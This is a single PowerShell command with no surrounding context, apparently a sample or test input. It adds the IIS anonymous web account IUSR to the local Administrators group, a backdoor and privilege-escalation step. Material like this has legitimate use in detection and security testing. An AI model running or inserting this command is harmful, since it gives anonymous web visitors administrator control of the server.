pwsh -NoProfile -Command 'net localgroup Administrators IUSR /add'
